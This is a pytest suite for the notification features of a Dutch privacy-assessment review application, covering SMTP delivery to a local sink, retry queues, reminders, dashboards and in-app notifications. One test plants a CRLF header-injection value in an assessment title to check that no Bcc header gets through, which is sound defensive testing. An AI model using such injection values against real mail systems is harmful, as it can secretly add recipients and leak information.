"""Review notifications end to end: mail to a real SMTP sink, the queue, reminders, in-app
notifications, due dates and dashboards, the per-assessment history and the demo procedure."""

import csv
import email
import email.policy
import io
import json
import re
import socket
from dataclasses import dataclass, field
from datetime import timedelta
from html import unescape
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError

from pia.demo import DEMO_PASSWORD, seed_demo
from pia.extensions import db
from pia.models import (
    Assessment,
    AssessmentRole,
    AuditEvent,
    Comment,
    Notification,
    Organisation,
    OutgoingMail,
    Questionnaire,
    User,
)
from pia.models.audit import AuditLogIsAppendOnly
from pia.models.types import utcnow
from pia.roles import Role
from pia.services import notify, review
from pia.services.assessments import load_answers
from pia.services.audit import verify_chain
from tests.conftest import header_text, log_in, make_user, text_of
from tests.documents_helpers import demo_assessment, document_id_from
from tests.factories_assessments import add_member, fill
from workflows import departmental, terms

BASE_URL = "https://pia.example.invalid"
TITLE = "Digitaal loket energiesubsidie woningeigenaren"


# --- an SMTP sink on 127.0.0.1 --------------------------------------------------------------


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@dataclass
class Sink:
    """Keeps every message it accepts; answers DATA as told (e.g. "550 ...")."""

    data_reply: str = "250 OK"
    envelopes: list[Any] = field(default_factory=list)

    async def handle_DATA(self, server, session, envelope) -> str:
        if self.data_reply.startswith("250"):
            self.envelopes.append(envelope)
        return self.data_reply

    def recipients(self) -> list[str]:
        return sorted(to for envelope in self.envelopes for to in envelope.rcpt_tos)

    def subjects(self) -> list[str]:
        """Subjects as a mail client shows them (a long one is folded onto the next line)."""
        return [" ".join(str(m["Subject"]).split()) for m in self.messages()]

    def messages(self) -> list[email.message.EmailMessage]:
        return [
            email.message_from_bytes(envelope.content, policy=email.policy.default)
            for envelope in self.envelopes
        ]


@dataclass
class SmtpServer:
    sink: Sink
    port: int


@pytest.fixture
def smtp(request) -> SmtpServer:
    sink = Sink()
    port = _free_port()
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    request.addfinalizer(controller.stop)
    return SmtpServer(sink, port)


@pytest.fixture
def app_config(smtp):
    return {
        "MAIL_BACKEND": "smtp",
        "SMTP_HOST": "127.0.0.1",
        "SMTP_PORT": smtp.port,
        "SMTP_TIMEOUT": 5,
        "MAIL_FROM": "pia@example.invalid",
        "BASE_URL": BASE_URL,
        # one mail per remark, sent at once: bundling is tested in test_notification_digest
        "NOTIFICATION_BUNDLE_MINUTES": 0,
    }


def _closed_port() -> int:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    return port


# --- people and actions ---------------------------------------------------------------------


@dataclass
class Cast:
    owner: Any
    fg1: Any
    fg2: Any
    assessment: Any


def cast(**kwargs) -> Cast:
    """A complete DPIA of BZK and two FGs of BZK (plus FGs who must never be told)."""
    owner = make_user(Role.PROJECTLEIDER, name="Pieter Opsteller", email="pieter@pia.test")
    fg1 = make_user(Role.FG, name="Fatima Eerste", email="fatima@pia.test")
    fg2 = make_user(Role.FG, name="Frank Tweede", email="frank@pia.test")
    make_user(Role.FG, name="Inactieve FG", email="inactief@pia.test", active=False)
    make_user(Role.FG, org="JenV", name="Joost Ander", email="joost@pia.test")
    make_user(Role.PROJECTLEIDER, name="Buitenstaander", email="buiten@pia.test")
    return Cast(owner, fg1, fg2, demo_assessment(owner, **kwargs))


def do(app, action, *args):
    """Run a review service as the app does in a request, and commit."""
    with app.test_request_context():
        result = action(*args)
        db.session.commit()
    return result


def client_for(app, user):
    other = app.test_client()
    log_in(other, user)
    return other


def submit_over_http(app, assessment, owner):
    """The owner presses "Indienen"; the response is closed, as a WSGI server does."""
    browser = client_for(app, owner)
    response = browser.post_form(f"/assessments/{assessment.id}/beoordeling/actie/submit")
    assert response.status_code == 302, response.status_code
    response.close()  # runs what the app registered with call_on_close: sending the mail
    db.session.expire_all()
    return browser


def notified(kind: str) -> list[str]:
    """The e-mail addresses of the users who got a notification of this kind."""
    db.session.expire_all()
    rows = db.session.scalars(
        select(User.email)
        .join(Notification, Notification.user_id == User.id)
        .where(Notification.kind == kind)
    )
    return sorted(rows)


def queued(kind: str | None = None) -> list[OutgoingMail]:
    db.session.expire_all()
    query = select(OutgoingMail).order_by(OutgoingMail.id)
    if kind is not None:
        query = query.join(Notification, Notification.id == OutgoingMail.notification_id).where(
            Notification.kind == kind
        )
    return list(db.session.scalars(query))


def state_of(assessment) -> str:
    db.session.expire_all()
    return db.session.get(Assessment, assessment.id).state


# --- mail: delivered, refused, unreachable, failed, retried --------------------------------


def test_submission_over_http_mails_exactly_the_fgs_of_the_organisation(app, smtp):
    people = cast()
    editor_fg = make_user(Role.FG, name="Schrijvende FG", email="schrijver@pia.test")
    add_member(people.assessment, editor_fg, AssessmentRole.EDITOR)

    submit_over_http(app, people.assessment, people.owner)

    assert state_of(people.assessment) == "submitted"
    # Sent when the response was done, without anyone running `flask send-mail`.
    assert smtp.sink.recipients() == ["fatima@pia.test", "frank@pia.test"]
    assert notified("submitted") == ["fatima@pia.test", "frank@pia.test"]
    due = terms.dutch_date(review.today() + timedelta(weeks=4))
    link = f"{BASE_URL}/assessments/{people.assessment.id}/beoordeling"
    for message in smtp.sink.messages():
        assert message["From"] == "pia@example.invalid"
        assert message["Subject"] == f"[pia] Ingediend: {TITLE}"
        body = message.get_content()
        name = "Fatima Eerste" if message["To"] == "fatima@pia.test" else "Frank Tweede"
        assert f"Beste {name}," in body
        assert f"“{TITLE}” (versie 1) wacht op FG-advies; reactie uiterlijk {due}." in body
        assert f"Bekijk het in pia: {link}\n" in body.replace("\r\n", "\n")
    assert all(m.sent_at is not None and m.attempts == 1 for m in queued())


def test_under_the_development_server_mail_leaves_even_if_the_response_is_never_closed(app, smtp):
    """Werkzeug's server (make run) skips close() when the browser drops the connection
    after a redirect; the mail must not wait for `flask send-mail` then."""
    people = cast()
    browser = client_for(app, people.owner)
    browser.environ_base["SERVER_SOFTWARE"] = "Werkzeug/3.1"
    response = browser.post_form(f"/assessments/{people.assessment.id}/beoordeling/actie/submit")
    assert response.status_code == 302  # and never closed
    db.session.expire_all()
    assert state_of(people.assessment) == "submitted"
    assert smtp.sink.recipients() == ["fatima@pia.test", "frank@pia.test"]
    assert all(m.sent_at is not None for m in queued())


def test_a_title_with_line_breaks_cannot_add_mail_headers(app, smtp):
    people = cast()
    # An imported assessment could carry anything in its title.
    people.assessment.title = "Loket\r\nBcc: buiten@pia.test\x1b"
    db.session.commit()

    submit_over_http(app, people.assessment, people.owner)

    assert smtp.sink.recipients() == ["fatima@pia.test", "frank@pia.test"]
    for message in smtp.sink.messages():
        assert message["Bcc"] is None
        assert message["Subject"] == "[pia] Ingediend: Loket Bcc: buiten@pia.test"
    assert all(m.sent_at is not None for m in queued())


def test_refusing_mail_server_keeps_the_submission_and_queues_the_mail(app, smtp):
    smtp.sink.data_reply = "550 mailbox unavailable"
    people = cast()
    before = utcnow()

    browser = submit_over_http(app, people.assessment, people.owner)

    assert state_of(people.assessment) == "submitted"
    assert notified("submitted") == ["fatima@pia.test", "frank@pia.test"]
    assert smtp.sink.envelopes == []
    mails = queued("submitted")
    assert sorted(m.to_address for m in mails) == ["fatima@pia.test", "frank@pia.test"]
    for item in mails:
        assert item.sent_at is None and not item.failed
        assert item.attempts == 1
        assert "550" in item.last_error and "mailbox unavailable" in item.last_error
        assert item.next_attempt_at >= before + timedelta(seconds=50)
    # The user saw the submission succeed, and the FG sees it in the app.
    assert "De DPIA is ingediend" in text_of(
        browser.get(f"/assessments/{people.assessment.id}/beoordeling")
    )
    fg = client_for(app, people.fg1)
    assert TITLE in text_of(fg.get("/meldingen"))


def test_unreachable_mail_server_keeps_the_submission_and_retries_later(app):
    port = _closed_port()
    app.config.update(SMTP_PORT=port, SMTP_TIMEOUT=1)
    people = cast()

    submit_over_http(app, people.assessment, people.owner)

    assert state_of(people.assessment) == "submitted"
    assert review.current_review(people.assessment) is not None
    mails = queued()
    assert len(mails) == 2
    for item in mails:
        assert (item.sent_at, item.failed, item.attempts) == (None, False, 1)
        assert f"127.0.0.1:{port} niet bereikbaar" in item.last_error
        assert item.next_attempt_at > utcnow()
    # Not due yet: running the queue again does not hammer the server.
    assert notify.dispatch_pending() == (0, 0)
    assert [m.attempts for m in queued()] == [1, 1]


def _make_due(items) -> None:
    """Move the next attempt of queued mail into the past (as if the pause has passed)."""
    for item in items:
        item.next_attempt_at = utcnow() - timedelta(seconds=1)
    db.session.commit()


def test_after_max_attempts_mail_is_failed_and_shown_to_the_beheerder(app, smtp):
    smtp.sink.data_reply = "550 mailbox unavailable"
    app.config["MAIL_MAX_ATTEMPTS"] = 3
    people = cast()
    submit_over_http(app, people.assessment, people.owner)

    for expected_attempts in (2, 3):
        _make_due(queued())
        assert notify.dispatch_pending() == (0, 2)
        assert [m.attempts for m in queued()] == [expected_attempts] * 2
    assert all(m.failed and m.sent_at is None for m in queued())
    _make_due(queued())
    assert notify.dispatch_pending() == (0, 0), "a failed message is not retried by itself"

    beheerder = client_for(app, make_user(Role.BEHEERDER))
    page = beheerder.get("/beheer/e-mail")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert html.count('data-failed="ja"') == 2
    rows = text_of(page)
    assert "fatima@pia.test" in rows and "frank@pia.test" in rows
    assert f"[pia] Ingediend: {TITLE}" in rows
    assert "Mislukt" in rows and "550 mailbox unavailable" in rows
    assert "Mislukte berichten opnieuw versturen" in rows
    for user in (people.owner, people.fg1, make_user(Role.AUDITOR)):
        other = client_for(app, user)
        assert other.get("/beheer/e-mail").status_code == 403, user.email
        assert other.post_form("/beheer/e-mail/opnieuw").status_code == 403, user.email
    assert all(m.failed for m in queued())


def test_retry_by_the_beheerder_sends_failed_mail_once_the_server_is_back(app, smtp):
    app.config.update(MAIL_MAX_ATTEMPTS=1, SMTP_PORT=_closed_port(), SMTP_TIMEOUT=1)
    people = cast()
    submit_over_http(app, people.assessment, people.owner)
    assert all(m.failed for m in queued())
    assert smtp.sink.envelopes == []

    app.config["SMTP_PORT"] = smtp.port  # the mail server is back
    beheerder = client_for(app, make_user(Role.BEHEERDER))
    response = beheerder.post_form("/beheer/e-mail/opnieuw", follow_redirects=True)

    assert response.status_code == 200
    assert "2 bericht(en) verstuurd; 0 mislukt opnieuw." in text_of(response)
    assert "Er wacht niets." in text_of(response)
    assert smtp.sink.recipients() == ["fatima@pia.test", "frank@pia.test"]
    assert all(m.sent_at is not None and not m.failed for m in queued())
    assert set(smtp.sink.subjects()) == {f"[pia] Ingediend: {TITLE}"}


def test_send_mail_command_sends_the_queue_and_reports_failures(app, smtp):
    people = cast()
    do(app, review.submit, people.assessment, people.owner)
    assert smtp.sink.envelopes == [] and len(queued()) == 2

    result = app.test_cli_runner().invoke(args=["send-mail"])
    assert result.exit_code == 0, result.output
    assert "2 verstuurd, 0 mislukt." in result.output
    assert smtp.sink.recipients() == ["fatima@pia.test", "frank@pia.test"]

    smtp.sink.data_reply = "550 mailbox unavailable"
    do(app, review.claim, people.assessment, people.fg1)
    result = app.test_cli_runner().invoke(args=["send-mail"])
    assert result.exit_code == 1
    assert "0 verstuurd, 2 mislukt." in result.output


def test_no_mail_backend_still_notifies_in_the_app(app, smtp):
    app.config["MAIL_BACKEND"] = "none"
    people = cast()
    submit_over_http(app, people.assessment, people.owner)
    assert notified("submitted") == ["fatima@pia.test", "frank@pia.test"]
    assert queued() == []
    assert smtp.sink.envelopes == []


# --- who is told what --------------------------------------------------------------------


def _with_team(people: Cast):
    """A co-editor and a reader on the assessment."""
    editor = make_user(Role.PROJECTLEIDER, name="Carla Collega", email="carla@pia.test")
    viewer = make_user(Role.PROJECTLEIDER, name="Lars Lezer", email="lars@pia.test")
    add_member(people.assessment, editor, AssessmentRole.EDITOR)
    add_member(people.assessment, viewer, AssessmentRole.VIEWER)
    return editor, viewer


def press(app, user, assessment, action: str):
    """A user presses one of the procedure's buttons; the response is closed afterwards."""
    browser = client_for(app, user)
    response = browser.post_form(f"/assessments/{assessment.id}/beoordeling/actie/{action}")
    assert response.status_code == 302
    response.close()
    db.session.expire_all()
    return browser


def post_comment(browser, assessment, section: str, body: str, question="", parent=None):
    url = f"/assessments/{assessment.id}/opmerkingen/{section}"
    if parent is None:
        data = {"new-question_id": question, "new-body": body}
    else:
        data = {"reply-parent_id": str(parent), "reply-body": body}
    response = browser.post_form(url, data)
    assert response.status_code == 302, text_of(response)[:500]
    response.close()
    db.session.expire_all()
    return db.session.scalar(select(Comment).order_by(Comment.id.desc()).limit(1))


def test_claim_tells_the_authors_and_the_other_fgs(app, smtp):
    people = cast()
    _with_team(people)
    submit_over_http(app, people.assessment, people.owner)
    smtp.sink.envelopes.clear()

    press(app, people.fg1, people.assessment, "claim")

    assert state_of(people.assessment) == "in_review"
    expected = ["carla@pia.test", "frank@pia.test", "pieter@pia.test"]
    assert notified("claimed") == expected
    assert smtp.sink.recipients() == expected
    for message in smtp.sink.messages():
        assert "Fatima Eerste (FG) heeft" in message.get_content()


def test_comments_reach_authors_claiming_fg_and_thread_but_never_the_writer(app, smtp):
    people = cast()
    editor, _viewer = _with_team(people)
    submit_over_http(app, people.assessment, people.owner)
    press(app, people.fg1, people.assessment, "claim")
    fg1, fg2 = client_for(app, people.fg1), client_for(app, people.fg2)
    carla, pieter = client_for(app, editor), client_for(app, people.owner)

    def told(comment) -> list[str]:
        db.session.expire_all()
        return sorted(
            db.session.scalars(
                select(User.email)
                .join(Notification, Notification.user_id == User.id)
                .where(
                    Notification.kind == "comment",
                    Notification.link.endswith(f"#c{comment.id}"),
                )
            )
        )

    def mailed() -> list[str]:
        found = smtp.sink.recipients()
        smtp.sink.envelopes.clear()
        return found

    smtp.sink.envelopes.clear()
    first = post_comment(fg1, people.assessment, "9", "Onderbouw de bewaartermijn.", "9")
    assert told(first) == ["carla@pia.test", "pieter@pia.test"]
    assert mailed() == ["carla@pia.test", "pieter@pia.test"]

    reply = post_comment(carla, people.assessment, "9", "Is aangepast.", parent=first.id)
    assert told(reply) == ["fatima@pia.test", "pieter@pia.test"]
    assert mailed() == ["fatima@pia.test", "pieter@pia.test"]

    # An FG who has not claimed it is told only once they take part in the thread.
    second = post_comment(fg2, people.assessment, "9", "Ook de archiefwet?", parent=first.id)
    assert told(second) == ["carla@pia.test", "fatima@pia.test", "pieter@pia.test"]
    third = post_comment(pieter, people.assessment, "9", "Ja, die ook.", parent=first.id)
    assert told(third) == ["carla@pia.test", "fatima@pia.test", "frank@pia.test"]
    mailed()

    notes = client_for(app, editor).get("/meldingen")
    assert "Fatima Eerste plaatste een opmerking bij vraag 9" in text_of(notes)
    # The comment's notification leads to the comment.
    note = db.session.scalar(
        select(Notification).where(
            Notification.user_id == editor.id, Notification.link.endswith(f"#c{first.id}")
        )
    )
    assert note.link == f"/assessments/{people.assessment.id}/opmerkingen/9#c{first.id}"


def test_each_step_of_the_procedure_tells_the_right_people(app, smtp):
    people = cast()
    editor, _viewer = _with_team(people)
    boss = make_user(name="Dirkje Dekker", email="dirkje@pia.test")
    a = people.assessment
    do(app, review.designate, a, boss.email, "Directeur-generaal", people.owner)
    assert notified("designated") == ["dirkje@pia.test"]
    do(app, review.submit, a, people.owner)
    do(app, review.claim, a, people.fg1)

    do(app, review.request_changes, a, people.fg1, "De bewaartermijnen graag onderbouwen.")
    assert notified("changes_requested") == ["carla@pia.test", "pieter@pia.test"]

    do(app, review.submit, a, people.owner)  # stays with fg1, who handled round one
    do(app, review.release, a, people.fg1)
    do(app, review.claim, a, people.fg2)
    advice = review.AdviceInput("conditional", "Verantwoord onder voorwaarden.", {}, ["Eén ding."])
    do(app, review.give_advice, a, people.fg2, advice)
    assert notified("advice_given") == ["carla@pia.test", "dirkje@pia.test", "pieter@pia.test"]

    recommendation = review.current_advice(a).recommendations[0]
    do(app, review.record_responses, a, editor, {recommendation.id: ("adopted", "")})
    do(app, review.offer_for_adoption, a, people.owner, None)
    assert notified("offered") == ["dirkje@pia.test"]

    notify.dispatch_pending()
    smtp.sink.envelopes.clear()
    assert (
        do(app, review.sign, a, boss, "Directeur-generaal", "", review.latest_version(a).number)
        is True
    )
    assert state_of(a) == "adopted"
    expected = ["carla@pia.test", "dirkje@pia.test", "frank@pia.test", "pieter@pia.test"]
    assert notified("adopted") == expected, "authors, controllers and the advising FG"
    notify.dispatch_pending()
    assert smtp.sink.recipients() == expected
    # Nobody outside the procedure, and the reader, ever got anything.
    outsiders = ["lars@pia.test", "joost@pia.test", "inactief@pia.test", "buiten@pia.test"]
    told = db.session.scalars(
        select(User.email).join(Notification, Notification.user_id == User.id).distinct()
    )
    assert set(told).isdisjoint(outsiders)


# --- reminders -----------------------------------------------------------------------------


def _counts(**found) -> dict[str, int]:
    zero = {"deadline_near": 0, "deadline_passed": 0, "reassessment_due": 0}
    return zero | {"par_deadline_near": 0, "par_deadline_passed": 0} | found


def test_deadline_reminders_are_sent_once_each(app, smtp):
    people = cast()
    _with_team(people)
    do(app, review.submit, people.assessment, people.owner)
    due = review.current_review(people.assessment).due_on
    assert due == review.today() + timedelta(weeks=4)

    def remind(day):
        with app.test_request_context():
            counts = notify.send_reminders(today=day)
            db.session.commit()
        return counts

    assert remind(due - timedelta(days=6)) == _counts()
    assert notified("deadline_near") == []
    assert remind(due - timedelta(days=5)) == _counts(deadline_near=1)
    assert remind(due - timedelta(days=5)) == _counts()
    assert remind(due - timedelta(days=1)) == _counts()
    assert remind(due) == _counts(), "the due date itself is still on time"
    assert notified("deadline_near") == ["fatima@pia.test", "frank@pia.test"]
    assert notified("deadline_passed") == []

    assert remind(due + timedelta(days=1)) == _counts(deadline_passed=1)
    assert remind(due + timedelta(days=1)) == _counts()
    assert remind(due + timedelta(days=8)) == _counts()
    assert notified("deadline_passed") == [
        "carla@pia.test",
        "fatima@pia.test",
        "frank@pia.test",
        "pieter@pia.test",
    ]
    assert notified("deadline_near") == ["fatima@pia.test", "frank@pia.test"]

    smtp.sink.envelopes.clear()
    notify.dispatch_pending()
    subjects = smtp.sink.subjects()
    assert subjects.count(f"[pia] Termijn loopt af: {TITLE}") == 2
    assert subjects.count(f"[pia] Termijn verstreken: {TITLE}") == 4
    passed = [m for m in smtp.sink.messages() if "Termijn verstreken" in str(m["Subject"])]
    body = passed[0].get_content()
    assert f"De termijn voor het FG-advies over “{TITLE}” is verstreken" in body
    assert terms.dutch_date(due) in body


def test_deadline_warning_goes_to_the_claiming_fg_and_follows_the_setting(app):
    app.config["DEADLINE_WARNING_DAYS"] = 10
    people = cast()
    do(app, review.submit, people.assessment, people.owner)
    do(app, review.claim, people.assessment, people.fg2)
    due = review.current_review(people.assessment).due_on

    with app.test_request_context():
        assert notify.send_reminders(today=due - timedelta(days=11)) == _counts()
        assert notify.send_reminders(today=due - timedelta(days=10)) == _counts(deadline_near=1)
        db.session.commit()
    assert notified("deadline_near") == ["frank@pia.test"]
    # Once the advice is given there is nothing left to remind anyone of.
    advice = review.AdviceInput("positive", "In orde.", {}, [])
    do(app, review.give_advice, people.assessment, people.fg2, advice)
    with app.test_request_context():
        assert notify.send_reminders(today=due + timedelta(days=3)) == _counts()


def _adopt(app, people: Cast, review_date) -> None:
    """Walk the procedure to 'adopted', with a controller and a re-assessment date."""
    boss = make_user(name="Dirkje Dekker", email="dirkje@pia.test")
    a = people.assessment
    do(app, review.designate, a, boss.email, "Directeur-generaal", people.owner)
    do(app, review.submit, a, people.owner)
    do(app, review.claim, a, people.fg1)
    advice = review.AdviceInput("positive", "De verwerking is verantwoord.", {}, [])
    do(app, review.give_advice, a, people.fg1, advice)
    do(app, review.offer_for_adoption, a, people.owner, review_date)
    assert do(app, review.sign, a, boss, "DG", "", review.latest_version(a).number) is True


def test_reassessment_due_is_announced_once_per_date(app):
    people = cast()
    first_date = review.today() + timedelta(days=20)
    _adopt(app, people, first_date)
    assert state_of(people.assessment) == "adopted"

    def remind(day):
        with app.test_request_context():
            counts = notify.send_reminders(today=day)
            db.session.commit()
        return counts

    assert remind(first_date - timedelta(days=31)) == _counts()
    assert remind(review.today()) == _counts(reassessment_due=1)
    assert remind(review.today()) == _counts()
    assert remind(review.today() + timedelta(days=1)) == _counts()
    assert notified("reassessment_due") == ["dirkje@pia.test", "pieter@pia.test"]

    second_date = review.today() + timedelta(days=25)
    do(app, review.set_review_date, people.assessment, people.owner, second_date)
    assert remind(review.today()) == _counts(reassessment_due=1), "a new date, a new notice"
    assert remind(review.today()) == _counts()


# --- the FG's term on the pages ------------------------------------------------------------


def _set_due(assessment, day) -> None:
    item = review.current_review(assessment)
    item.due_on = day
    db.session.commit()


def test_procedure_page_shows_the_fg_term_and_marks_it_overdue(app):
    people = cast()
    browser = submit_over_http(app, people.assessment, people.owner)
    url = f"/assessments/{people.assessment.id}/beoordeling"
    today = review.today()

    page = browser.get(url)
    due = terms.dutch_date(today + timedelta(weeks=4))
    assert f"Reactie van de FG uiterlijk {due} (nog 28 dagen)" in text_of(page)
    assert "data-overdue" not in page.get_data(as_text=True)

    _set_due(people.assessment, today)
    page = browser.get(url)
    assert "data-overdue" not in page.get_data(as_text=True)
    assert "Termijn verstreken" not in text_of(page)

    _set_due(people.assessment, today - timedelta(days=1))
    page = browser.get(url)
    badge = re.search(r"<span[^>]*data-overdue[^>]*>([^<]*)</span>", page.get_data(as_text=True))
    assert badge and badge.group(1) == "Termijn verstreken (1 dag te laat)"
    assert terms.dutch_date(today - timedelta(days=1)) in text_of(page)

    _set_due(people.assessment, today - timedelta(days=3))
    fg_page = client_for(app, people.fg1).get(url)
    assert "Termijn verstreken (3 dagen te laat)" in text_of(fg_page)


def test_fg_response_weeks_setting_changes_the_due_date(app, smtp):
    app.config["FG_RESPONSE_WEEKS"] = 2
    people = cast()
    browser = submit_over_http(app, people.assessment, people.owner)

    expected = review.today() + timedelta(weeks=2)
    assert review.current_review(people.assessment).due_on == expected
    page = browser.get(f"/assessments/{people.assessment.id}/beoordeling")
    assert f"Reactie van de FG uiterlijk {terms.dutch_date(expected)} (nog 14 dagen)" in text_of(
        page
    )
    assert all(
        f"reactie uiterlijk {terms.dutch_date(expected)}" in m.get_content()
        for m in smtp.sink.messages()
    )


# --- dashboards ----------------------------------------------------------------------------


def dashboard_lists(page, panel: str) -> dict[str, str]:
    """Heading → visible text below it, inside one role's panel of the dashboard."""
    html = page.get_data(as_text=True)
    section = re.search(rf'<section[^>]*aria-labelledby="panel-{panel}".*?</section>', html, re.S)
    assert section, f"no {panel} panel"
    parts = re.split(r"<h3>(.*?)</h3>", section.group(0))

    def visible(fragment: str) -> str:
        words = " ".join(unescape(re.sub(r"<[^>]+>", " ", fragment)).split())
        return re.sub(r" ([:;,.])", r"\1", words)

    return {parts[i]: visible(parts[i + 1]) for i in range(1, len(parts) - 1, 2)}


def test_fg_dashboard_follows_the_review_and_flags_overdue_terms(app):
    people = cast()
    submit_over_http(app, people.assessment, people.owner)
    fg = client_for(app, people.fg1)
    due = terms.dutch_date(review.today() + timedelta(weeks=4))

    lists = dashboard_lists(fg.get("/"), "fg")
    assert (
        f"{TITLE} — versie 1, nog door niemand opgepakt; uiterlijk {due}"
        in lists["Nieuw ingediend"]
    )
    assert lists["Bij u in behandeling"] == "U heeft niets in behandeling."
    assert lists["Termijn verstreken"] == "Geen DPIA’s over de termijn."

    press(app, people.fg1, people.assessment, "claim")
    lists = dashboard_lists(fg.get("/"), "fg")
    assert TITLE not in lists["Nieuw ingediend"]
    assert f"{TITLE} — versie 1, bij u in behandeling" in lists["Bij u in behandeling"]
    colleague = dashboard_lists(client_for(app, people.fg2).get("/"), "fg")
    assert "bij Fatima Eerste" in colleague["Bij een collega-FG"]

    yesterday = review.today() - timedelta(days=1)
    _set_due(people.assessment, yesterday)
    lists = dashboard_lists(fg.get("/"), "fg")
    assert TITLE in lists["Termijn verstreken"]
    assert lists["Termijn verstreken"].endswith("Te laat")
    assert terms.dutch_date(yesterday) in lists["Termijn verstreken"]
    assert lists["Uw gegeven adviezen"] == "U heeft nog geen advies gegeven."

    advice = review.AdviceInput("conditional", "Verantwoord onder voorwaarden.", {}, ["Doe X."])
    do(app, review.give_advice, people.assessment, people.fg1, advice)
    lists = dashboard_lists(fg.get("/"), "fg")
    assert TITLE in lists["Uw gegeven adviezen"]
    assert "Positief met voorwaarden" in lists["Uw gegeven adviezen"]
    assert TITLE not in lists["Termijn verstreken"] and TITLE not in lists["Bij u in behandeling"]
    # An FG of another organisation never sees it.
    other = make_user(Role.FG, org="JenV", email="jenv.fg@pia.test")
    assert TITLE not in text_of(client_for(app, other).get("/"))


def test_projectleider_and_controller_dashboards_show_what_waits_for_them(app):
    people = cast()
    boss = make_user(name="Dirkje Dekker", email="dirkje@pia.test")
    demo_assessment(people.owner, title="Tweede verwerking")
    a = people.assessment
    do(app, review.designate, a, boss.email, "Directeur-generaal", people.owner)
    do(app, review.submit, a, people.owner)
    do(app, review.claim, a, people.fg1)
    do(app, review.request_changes, a, people.fg1, "Graag de bewaartermijnen onderbouwen.")

    lead = client_for(app, people.owner)
    lists = dashboard_lists(lead.get("/"), "projectleider")
    assert f"{TITLE} — De FG vraagt aanpassingen" in lists["Wacht op u"]
    assert "Tweede verwerking" not in lists["Wacht op u"]
    per_state = lists["Uw assessments per status"]
    assert "Concept: 1" in per_state and "Aanpassingen gevraagd: 1" in per_state

    do(app, review.submit, a, people.owner)  # stays with fg1, who handled round one
    advice = review.AdviceInput("conditional", "Onder voorwaarden.", {}, ["Doe X.", "Doe Y."])
    do(app, review.give_advice, a, people.fg1, advice)
    lists = dashboard_lists(lead.get("/"), "projectleider")
    assert f"{TITLE} — Aanbevelingen van de FG verwerken" in lists["Wacht op u"]
    assert "FG-advies gegeven: 1" in lists["Uw assessments per status"]

    controller = client_for(app, boss)
    assert "Wacht op uw vaststelling" not in text_of(controller.get("/"))
    recs = review.current_advice(a).recommendations
    do(app, review.record_responses, a, people.owner, {r.id: ("adopted", "") for r in recs})
    do(app, review.offer_for_adoption, a, people.owner, None)
    page = controller.get("/")
    assert f"{TITLE} — Wacht op uw vaststelling en handtekening" in text_of(page)
    assert f'href="/assessments/{a.id}/beoordeling/ondertekenen"' in page.get_data(as_text=True)
    lists = dashboard_lists(lead.get("/"), "projectleider")
    assert TITLE not in lists["Wacht op u"]
    assert "Ter vaststelling: 1" in lists["Uw assessments per status"]

    assert do(app, review.sign, a, boss, "DG", "", review.latest_version(a).number) is True
    assert "Wacht op uw vaststelling" not in text_of(controller.get("/"))


def test_auditor_filters_assessments_by_state_and_organisation(app):
    people = cast()
    concept = demo_assessment(people.owner, title="Nog een concept")
    jenv_owner = make_user(Role.PROJECTLEIDER, org="JenV")
    jenv = demo_assessment(jenv_owner, title="JenV ingediend")
    jenv.organisation = db.session.scalar(
        select(Organisation).where(Organisation.abbreviation == "JenV")
    )
    db.session.commit()
    do(app, review.submit, people.assessment, people.owner)
    do(app, review.submit, jenv, jenv_owner)
    bzk = db.session.scalar(select(Organisation.id).where(Organisation.abbreviation == "BZK"))

    auditor = client_for(app, make_user(Role.AUDITOR, org="Fin"))

    def titles(**query) -> set[str]:
        page = auditor.get("/assessments/", query_string=query)
        assert page.status_code == 200
        shown = text_of(page)
        return {t for t in (TITLE, concept.title, jenv.title) if t in shown}

    assert titles() == {TITLE, concept.title, jenv.title}
    assert titles(status="submitted") == {TITLE, jenv.title}
    assert titles(status="submitted", organisatie=bzk) == {TITLE}
    assert titles(status="concept", organisatie=bzk) == {concept.title}
    assert titles(status="adopted") == set()


# --- notifications in the app --------------------------------------------------------------


def unread_in_nav(browser) -> str:
    """The "Meldingen" item of the navigation, as a screen reader reads it."""
    found = re.search(r"Meldingen(?: \d+ ongelezen)?", header_text(browser.get("/")))
    assert found, "no Meldingen in the navigation"
    return found.group(0)


def notes_of(user) -> list[Notification]:
    db.session.expire_all()
    return list(
        db.session.scalars(
            select(Notification).where(Notification.user_id == user.id).order_by(Notification.id)
        )
    )


def test_notifications_page_unread_count_and_opening_one(app):
    people = cast()
    submit_over_http(app, people.assessment, people.owner)
    press(app, people.fg2, people.assessment, "claim")
    fg = client_for(app, people.fg1)

    assert unread_in_nav(fg) == "Meldingen 2 ongelezen"
    page = fg.get("/meldingen")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert html.count("notification--unread") == 2
    shown = text_of(page)
    assert shown.count("Nieuw") == 2
    assert f"“{TITLE}” (versie 1) wacht op FG-advies" in shown
    assert f"Frank Tweede (FG) heeft “{TITLE}” in behandeling genomen." in shown
    assert shown.index("In behandeling") < shown.index("Ingediend"), "newest first"

    submitted = next(n for n in notes_of(people.fg1) if n.kind == "submitted")
    opened = fg.post_form(f"/meldingen/{submitted.id}/openen")
    assert opened.status_code == 302
    assert opened.headers["Location"] == f"/assessments/{people.assessment.id}/beoordeling"
    assert [n.read_at is not None for n in notes_of(people.fg1)] == [True, False]
    assert unread_in_nav(fg) == "Meldingen 1 ongelezen"
    assert text_of(fg.get("/meldingen")).count("Nieuw") == 1

    done = fg.post_form("/meldingen/gelezen", follow_redirects=True)
    assert "Alle meldingen zijn gelezen." in text_of(done)
    assert "Nieuw" not in text_of(fg.get("/meldingen"))
    assert unread_in_nav(fg) == "Meldingen"
    assert all(n.read_at is not None for n in notes_of(people.fg1))


def test_someone_elses_notification_cannot_be_opened_or_marked(app):
    people = cast()
    submit_over_http(app, people.assessment, people.owner)
    theirs = notes_of(people.fg1)[0]
    owner = client_for(app, people.owner)

    assert owner.post_form(f"/meldingen/{theirs.id}/openen").status_code == 404
    assert owner.post_form("/meldingen/999999/openen").status_code == 404
